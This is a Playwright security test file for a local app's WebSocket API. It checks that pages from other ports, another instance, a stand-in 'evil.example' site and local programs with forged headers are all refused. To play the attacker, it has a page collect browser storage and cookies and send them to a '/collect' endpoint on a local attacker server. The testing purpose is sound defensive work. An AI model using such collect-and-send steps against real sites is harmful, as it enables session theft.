/**
 * "Only the page the launcher opened can reach an instance", in a real browser and from
 * outside one: another instance's page, a page of another website, a page another local
 * user serves on another port of 127.0.0.1, and a local program cannot use an instance's API.
 * No cookie is a credential (cookies go to every port of 127.0.0.1): the page's session lives
 * in its origin's storage, port included, and every socket proves it by challenge-response.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import WebSocket from 'ws';
import { appSchema } from '../../src/shared/app-schema.ts';
import { expect, test } from '../support/browser-fixtures.ts';

test.use({ instanceCount: 2 });

/**
 * A table of the app's own schema that needs no parent row, so `rows(table, {})` answers on a
 * fresh instance: whatever a fork named its tables, this security test runs unchanged there.
 */
const TABLE = appSchema.tableNames.find((name) => appSchema.table(name)?.parent === null) as string;

/** Runs in a page: whether a WebSocket to `url` opens and answers a call. */
function tryApi(url: string): Promise<string> {
  return new Promise((resolve) => {
    let ws: WebSocket;
    try {
      ws = new WebSocket(url);
    } catch {
      return resolve('refused'); // the page's CSP
    }
    const timer = setTimeout(() => resolve('timeout'), 5000);
    ws.onerror = () => {
      clearTimeout(timer);
      resolve('refused');
    };
    ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: 'info', args: [] }));
    ws.onmessage = (e) => {
      clearTimeout(timer);
      ws.close();
      resolve('envelope' in (JSON.parse(String(e.data)) as object) ? 'answered' : 'refused');
    };
    ws.onclose = () => {
      clearTimeout(timer);
      resolve('refused');
    };
  });
}

const apiUrl = (page: Page): Promise<string | null> => page.locator('meta[name="fieldsync-host"]').getAttribute('content');

test("a page reaches its own instance's API, and no other page does, even in a browser signed in to it", async ({ cluster }) => {
  const [a, b] = cluster.instances as [(typeof cluster.instances)[number], (typeof cluster.instances)[number]];
  const urlA = (await apiUrl(a.page)) as string;
  const urlB = (await apiUrl(b.page)) as string;
  expect(urlA).toBe(`ws://${new URL(a.page.url()).host}/api`);
  expect(await a.page.content()).not.toMatch(/key=|code=/); // no secret in the page
  expect(await a.page.evaluate(() => document.cookie)).toBe(''); // no cookie at all

  // Its own page, through its bridge: yes (callApi runs the handshake with the stored session).
  expect(await a.callApi('rows', [TABLE, {}])).toEqual({ ok: true, value: [] });
  // Its own origin, but a bare socket without the handshake: the host answers nothing.
  expect(await a.page.evaluate(tryApi, urlA)).toBe('refused');
  // The page of another instance: no. Its CSP lets it open no socket but its own; and the
  // host would refuse its Origin anyway (unit-tested in src/web-host).
  expect(await a.page.evaluate(tryApi, urlB)).toBe('refused');
  // Nor can it read the other instance's page.
  const read = await a.page.evaluate(async (url) => fetch(url).then((r) => r.text().then(() => 'read'), () => 'blocked').catch(() => 'blocked'), new URL(b.page.url()).href);
  expect(read).toBe('blocked');

  // Audit E finding 1: a page another local user serves on another port of 127.0.0.1, visited
  // by this signed-in browser, gets every cookie the browser holds for 127.0.0.1 and whatever
  // its own origin's storage holds. None of it opens the API, whatever headers go with it.
  const seen: string[] = [];
  const other = createServer((req, res) => {
    seen.push(`${req.url} cookie=${req.headers.cookie ?? ''}`);
    res.writeHead(200, { 'Content-Type': 'text/html' }).end('<!doctype html><title>other</title>');
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  const otherUrl = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`;
  const evil = await a.page.context().newPage(); // the same browser profile as A's page
  try {
    await evil.goto(otherUrl);
    const loot = await evil.evaluate(() => JSON.stringify({ storage: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie }));
    await evil.evaluate((u) => fetch(`${u}collect`, { credentials: 'include' }).then(() => 'sent'), otherUrl);
    expect(loot).not.toMatch(/secret|fieldsync/);
    expect(seen.join('\n')).not.toMatch(/fieldsync/); // no cookie of ours: there is none
    // Everything it learned, replayed from a program with A's own Origin and Host: no answer.
    const forged = await new Promise<string>((resolve) => {
      const ws = new WebSocket(urlA, { origin: new URL(a.page.url()).origin, headers: { Cookie: seen.map((l) => l.split('cookie=')[1]).join('; ') || 'x=1' } });
      ws.once('open', () => ws.send(JSON.stringify({ id: 1, method: 'rows', args: [TABLE, {}] })));
      ws.once('message', (d) => resolve(String(d)));
      ws.once('unexpected-response', (_req, res) => resolve(`HTTP ${res.statusCode}`));
      ws.once('error', () => resolve('error'));
    });
    expect(forged).toBe('{"refused":{"reason":"protocol"}}');
    // From that page in the browser: the host refuses its Origin, and a Host other than 127.0.0.1:PORT.
    expect(await evil.evaluate(tryApi, urlA)).toBe('refused');
    await expect.poll(() => cluster.logs()).toContain('[web-1] fieldsync web host [web-1]: refused a WebSocket: wrong Origin');
    expect(await evil.evaluate(tryApi, urlA.replace('127.0.0.1', 'localhost'))).toBe('refused');
    await expect.poll(() => cluster.logs()).toContain('[web-1] fieldsync web host [web-1]: refused a WebSocket: wrong Host header');
    // A website on the internet: the browser may already block it (Local Network Access),
    // and the host would refuse it as above.
    await evil.route('http://evil.example/', (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>evil</title>' }));
    await evil.goto('http://evil.example/');
    expect(await evil.evaluate(tryApi, urlA)).toBe('refused');
  } finally {
    await evil.close();
    other.close();
  }

  // Nothing of the above reached the instance: no row was written (asked of its API, not of
  // a view's empty state, which only the reference app's todo view has).
  expect(await a.callApi('rows', [TABLE, {}])).toEqual({ ok: true, value: [] });
});

test('a local program gets nothing from an instance: the shell holds no secret, and no header opens the API', async ({ cluster }) => {
  const a = (cluster.instances as [(typeof cluster.instances)[number]])[0];
  const origin = new URL(a.page.url()).origin;
  for (const path of ['/', '/index.html', '/login', '/login?code=guess']) {
    const res = await fetch(`${origin}${path}`, { redirect: 'manual', headers: { Origin: origin, Referer: `${origin}/` } });
    expect(res.status, path).toBe(200); // the app shell
    expect(res.headers.get('set-cookie')).toBeNull();
    expect(await res.text()).not.toMatch(/code=|key=|secret/);
  }
  const attempt = (headers: Record<string, string>): Promise<string> => new Promise((resolve) => {
    const ws = new WebSocket(`ws://${new URL(origin).host}/api`, { origin, headers });
    ws.once('open', () => ws.send(JSON.stringify({ id: 1, method: 'info', args: [] })));
    ws.once('message', (d) => resolve(String(d)));
    ws.once('unexpected-response', (_req, res) => resolve(`HTTP ${res.statusCode}`));
    ws.once('error', () => resolve('error'));
  });
  expect(await attempt({})).toBe('{"refused":{"reason":"protocol"}}');
  expect(await attempt({ Cookie: 'fieldsync-0000000000000000=guess' })).toBe('{"refused":{"reason":"protocol"}}');
  await expect.poll(() => cluster.logs()).toContain('[web-1] fieldsync web host [web-1]: refused a WebSocket: malformed handshake');
  // The page it served still works: nothing of that reached the instance.
  expect(await a.callApi('rows', [TABLE, {}])).toEqual({ ok: true, value: [] });
});
